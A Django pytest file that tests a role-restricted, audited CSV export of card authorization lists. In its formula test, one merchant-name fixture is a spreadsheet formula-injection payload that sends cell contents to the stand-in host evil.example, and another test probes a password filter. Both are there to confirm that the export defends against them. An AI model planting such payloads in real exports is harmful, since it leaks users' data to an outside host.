"""A list as a file: what the list shows of the filtered rows, for those who may, and in the trail."""

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.test import Client
from django.urls import reverse

from audit.models import Entry
from issuing.models import Authorization
from onecard.desk.exports import csv_rows
from onecard.desk.models import ListExport
from onecard.kit import row_counts
from tests.onecard.test_long_lists import purchases
from tests.support.back_office import logged_in, text_of
from tests.support.factories import UserFactory

pytestmark = pytest.mark.django_db
EXPORT = reverse("desk:export", args=["issuing", "authorization"])


def rows(browser: Client, query: str = "") -> list[list[str]]:
    answer = browser.post(EXPORT + query)
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"].startswith('attachment; filename="authorization-')
    text = b"".join(answer.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("long_from", [0, 10_000])
def test_every_filtered_row_is_in_it_once(monkeypatch: pytest.MonkeyPatch, long_from: int) -> None:
    monkeypatch.setattr(row_counts, "LONG_FROM", long_from)
    monkeypatch.setattr(csv_rows, "AT_ONCE", 7)
    bistro = purchases(60, same_time=True)
    purchases(3, merchant="Corner Deli")
    heading, *found = rows(logged_in(), "?q=bistro&after=1")

    assert heading[:3] == ["ID", "When", "Merchant"]
    assert sorted(int(row[0]) for row in found) == sorted(each.pk for each in bistro)
    assert found[0][2] == "Bistro"
    assert "1.00" in found[0][4]
    assert "<" not in "".join(map("".join, found))


def test_a_formula_stays_text() -> None:
    purchases(1, merchant='=HYPERLINK("https://evil.example/?"&A1)')
    assert rows(logged_in())[1][2] == '\'=HYPERLINK("https://evil.example/?"&A1)'
    for text in ("=1", "+1", "-1", "@x", "\t=1", "\r=1", "  =1"):
        assert csv_rows.safe(text) == f"'{text}"
    assert csv_rows.safe("a=1") == "a=1"


def test_who_exported_what_is_in_the_trail_before_the_rows_leave() -> None:
    purchases(1)
    answer = logged_in().post(f"{EXPORT}?status__exact=settled")
    entry, made = Entry.objects.get(action="list.exported"), ListExport.objects.get()
    assert entry.details == {"list": "issuing.Authorization", "query": "status__exact=settled"}
    assert (entry.actor, entry.subject_id) == (f"user:{made.by_id}", str(made.pk))
    assert answer.status_code == 200


@pytest.mark.parametrize(("role", "may"), [("support", False), ("auditor", False), ("finance", True), ("risk", True)])
def test_a_role_decides_who_exports(role: str, may: bool) -> None:
    purchases(1)
    clerk = UserFactory(is_staff=True)
    clerk.groups.add(Group.objects.get(name=role))
    browser = logged_in(clerk)

    assert ("Export as CSV" in text_of(browser.get(reverse("admin:issuing_authorization_changelist")))) is may
    assert browser.post(EXPORT).status_code == (200 if may else 403)
    assert ListExport.objects.exists() is may


@pytest.mark.parametrize("name", ["nothing", "issuercontrol", "decision"])
def test_what_is_no_list_is_not_found(name: str) -> None:
    assert logged_in().post(reverse("desk:export", args=["issuing", name])).status_code == 404


def test_a_link_exports_nothing() -> None:
    assert logged_in().get(EXPORT).status_code == 405
    assert not ListExport.objects.exists()


def test_a_filter_that_means_nothing_exports_nothing() -> None:
    answer = logged_in().post(f"{EXPORT}?password__startswith=a")
    assert answer.status_code in (302, 400, 403)
    assert not ListExport.objects.exists()
    assert Authorization.objects.count() == 0
